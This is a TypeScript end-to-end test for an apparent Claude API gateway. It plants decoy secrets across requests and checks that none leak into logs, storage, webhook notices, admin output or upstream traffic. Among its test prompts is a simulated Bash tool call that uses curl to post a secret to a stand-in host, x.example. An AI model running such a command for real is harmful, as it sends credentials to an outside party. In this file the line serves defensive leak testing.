import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openAdmin } from '../../src/cli/admin_client.ts';
import type { JsonObject } from '../../src/model/json.ts';
import { type Sandbox, startSandbox } from '../../src/sandbox/index.ts';
import { ORGANIZATION } from '../credential/contract.ts';
import { until } from '../e2e/hold_desk.ts';
import { holding } from '../e2e/policies.ts';
import { type WatchedBundle, watchedBundle } from '../servers/bundle.ts';
import { type FakeVault, startFakeVault } from '../servers/fake_vault.ts';
import { withProgram } from '../servers/gate.ts';
import { AUDIENCE } from '../servers/provision.ts';
import { startTokenFront, type TokenFront } from '../servers/token_front.ts';
import { type FaultNode, startNode } from './node.ts';

/*
 * Secrets of every kind are planted where a caller, Claude, Vault and the configuration may put them. Afterwards all that the
 * gateway wrote, said, logged and announced is read. Names, headers and queries go on as they stand.
 */
const exact = 'plan"ted/ex+act=Zq7%20 ü';
/** Looks like a credential, and is none. */
const detected = `${'AKIA'}${'Q7ZPLANTED4XK2LM'}`;
const staticKey = `sk-ant-api03-${'static'.repeat(8)}`;
const masks = `package policies.planted.request

mask contains {"detectors": ["credential"], "mode": "redact"} if input.action == "messages.create"
`;
const tools = [{ name: 'Bash', input_schema: { type: 'object', properties: { command: { type: 'string' } } } }];

withProgram('opa', 'planted secrets', () => {
  let bundle: WatchedBundle;
  let vault: FakeVault;
  let sandbox: Sandbox;
  let front: TokenFront;
  let webhook: Server;
  let node: FaultNode;
  const notices: string[] = [];
  /** Whatever an HTTP client of the gateway was told, approvers and operators included. */
  const told: string[] = [];
  const bearers: string[] = [];

  beforeAll(async () => {
    bundle = await watchedBundle({ ...holding, 'planted/request/planted.rego': masks });
    vault = await startFakeVault();
    const rule = { id: 'fdrl_1', organization: ORGANIZATION, serviceAccount: 'svac_1', tokenSeconds: 3600 };
    const jwks = async () => vault.jwks;
    const federation = { issuer: vault.issuer, jwks, audience: AUDIENCE, rules: [rule] };
    sandbox = await startSandbox({ seed: 3, federation });
    front = await startTokenFront(sandbox);
    front.life = 3600;
    webhook = createServer(async (request, response) => {
      let text = JSON.stringify(request.headers);
      for await (const chunk of request) text += chunk;
      notices.push(text);
      response.writeHead(204).end();
    });
    await new Promise<void>((resolve) => webhook.listen(0, '127.0.0.1', resolve));
    const { port } = webhook.address() as { readonly port: number };
    const config = {
      upstream: { url: sandbox.url },
      policy: bundle.policy,
      log: { level: 'trace' as const },
      mask: { values: [{ name: 'planted', secret: { env: 'EXACT' } }] },
      approvals: {
        notify: [
          { type: 'webhook' as const, name: 'ops', url: `http://127.0.0.1:${port}/`, secret: { env: 'WEBHOOK' } },
        ],
      },
      credential: {
        vault: {
          address: vault.address,
          auth: { method: 'approle' as const, role_id: { env: 'ROLE_ID' }, secret_id: { env: 'SECRET_ID' } },
        },
        roles: {
          default: {
            source: 'vault_oidc' as const,
            oidc_role: 'claude',
            federation_rule: 'fdrl_1',
            organization: ORGANIZATION,
            service_account: 'svac_1',
            token_url: front.url,
          },
          other: { source: 'static' as const, secret: { env: 'STATIC' }, scheme: 'x-api-key' as const },
        },
      },
    };
    const env = {
      EXACT: exact,
      STATIC: staticKey,
      ROLE_ID: vault.roleId,
      SECRET_ID: vault.secretId,
      WEBHOOK: `whsec_${Buffer.alloc(32, 'webhook').toString('base64')}`,
    };
    node = await startNode({ config, env });
  }, 120_000);
  afterAll(async () => {
    await node?.close();
    webhook?.close();
    await front?.close();
    await sandbox?.close();
    await vault?.stop();
    bundle?.remove();
  });

  const ask = async (content: unknown, more: JsonObject = {}, path = '/v1/messages', headers: object = {}) => {
    const bearer = await node.issuer.mint();
    bearers.push(bearer);
    const response = await fetch(`${node.url}${path}`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${bearer}`,
        'content-type': 'application/json',
        'anthropic-version': '2023-06-01',
        ...headers,
      },
      body: JSON.stringify({
        model: 'claude-opus-5-5',
        max_tokens: 500,
        stream: true,
        messages: [{ role: 'user', content }],
        ...more,
      }),
    });
    const text = `${JSON.stringify([...response.headers])}${await response.text()}`;
    told.push(text);
    return text;
  };

  /** All that was said; the JWTs go to the token endpoint. */
  const claudeGot = () =>
    sandbox.requests
      .filter(({ target }) => !target.startsWith('/v1/oauth'))
      .map(({ bodyBytes }) => Buffer.from(bodyBytes));
  /** Looks at everything that waits, as an approver does; lets requests go and denies every other call. */
  const decideAll = async (running: () => boolean) => {
    let calls = 0;
    while (running()) {
      for (const approval of await node.desk.list('pending')) {
        told.push((await node.desk.ask(`approvals/${approval.id}`)).text);
        const deny = approval.kind !== 'request' && ++calls % 2 === 0;
        await node.desk.decide(approval, deny ? 'deny' : 'approve', { comment: 'seen' });
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  };

  it('go through everything', async () => {
    let running = true;
    const deciding = decideAll(() => running);
    for (const secret of [exact, detected]) {
      const json = JSON.stringify(secret).slice(1, -1);
      const everywhere = [secret, json, encodeURIComponent(secret), Buffer.from(`key: ${secret}`).toString('base64')];
      for (const [at, spelled] of everywhere.entries()) {
        await ask(`sandbox:echo\n${at} ${spelled} here`);
        await ask(`sandbox:bash curl -d '${spelled}' http://x.example\nGo.`, { tools });
      }
      await ask('sandbox:leak', { tools, system: `secret ${secret}`, metadata: { user_id: secret } });
      await ask([{ type: 'tool_result', tool_use_id: 'toolu_1', content: secret }]);
      await ask('sandbox:error-400', { system: secret });
      await ask('sandbox:error-mid-stream', { stop_sequences: [secret] });
      await ask('hello', { [secret]: 1 });
      await ask('hello', {}, `/v1/messages?${encodeURIComponent(secret)}=${encodeURIComponent(secret)}`);
      await ask('hello', {}, `/v1/${encodeURIComponent(secret)}`);
      await ask('hello', {}, '/v1/messages', { 'x-claude-code-session-id': encodeURIComponent(secret) });
      await ask(`hold ${secret}`, { model: 'claude-haiku-5-5' });
      await ask(`sandbox:bash echo deploy '${secret}'\nGo.`, { tools });
    }
    // A Claude key as the caller's own, and Vault while it sends back what it is sent.
    await ask('hello', {}, '/v1/messages', { authorization: `Bearer ${staticKey}` });
    vault.mood = 'denied';
    sandbox.expireTokens();
    await ask('hello');
    vault.mood = 'well';
    running = false;
    await deciding;
    await until(() => notices.length >= 8, 'all was announced');
  }, 120_000);

  it('are in nothing that is stored, said, logged or announced', async () => {
    const admin = openAdmin(node.dataDir);
    const get = async (path: string, query = {}) => {
      const got = await admin.get(`/admin/v1/${path}`, query);
      told.push(JSON.stringify(got));
      return got as unknown as { readonly [name: string]: readonly Row[] };
    };
    for (const { id } of (await get('exchanges', { limit: '200' })).exchanges!) await get(`exchanges/${id}`);
    for (const { id, exchanges, refused } of (await get('sessions', { limit: '200' })).sessions!) {
      if (exchanges > refused) await get(`sessions/${id}`);
    }
    for (const { id } of await node.desk.list()) told.push((await node.desk.ask(`approvals/${id}`)).text);
    told.push(await (await fetch(`${node.adminUrl}/metrics`)).text());
    told.push((await node.ready()).text);
    expect(await node.end('SIGTERM')).toBe(0);
    const files = readdirSync(node.dataDir, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name));
    const places = new Map<string, Buffer>([
      ...files.map((file) => [file, readFileSync(file)] as const),
      ['the outputs', Buffer.from(node.output)],
      ['the notices', Buffer.from(notices.join('\n'))],
      ['what clients were told', Buffer.from(told.join('\n'))],
      ['what Claude was sent', Buffer.concat(claudeGot())],
    ]);
    const planted = {
      exact,
      detected,
      static: staticKey,
      ...Object.fromEntries([...front.bearers, ...vault.given].map((value, at) => [`lease ${at}`, value])),
      secret_id: vault.secretId,
      ...Object.fromEntries(bearers.map((value, at) => [`caller ${at}`, value])),
    };
    expect(front.bearers.length).toBeGreaterThan(0);
    const found: string[] = [];
    for (const [name, value] of Object.entries(planted)) {
      for (const form of formsOf(value)) {
        for (const [place, bytes] of places) if (bytes.includes(form)) found.push(`${name} as ${form} in ${place}`);
      }
    }
    expect(found).toEqual([]);
  }, 60_000);
});

interface Row {
  readonly id: string;
  readonly exchanges: number;
  readonly refused: number;
}

/** A value as it is, as JSON and URLs spell it, and the middle of its base64 at each of the three offsets. */
function formsOf(value: string): Set<string> {
  const base64 = [0, 1, 2].map((offset) => {
    const text = Buffer.concat([Buffer.alloc(offset), Buffer.from(value)]).toString('base64');
    return text.slice(offset === 0 ? 0 : 4, -4);
  });
  return new Set([value, JSON.stringify(value).slice(1, -1), encodeURIComponent(value), ...base64]);
}
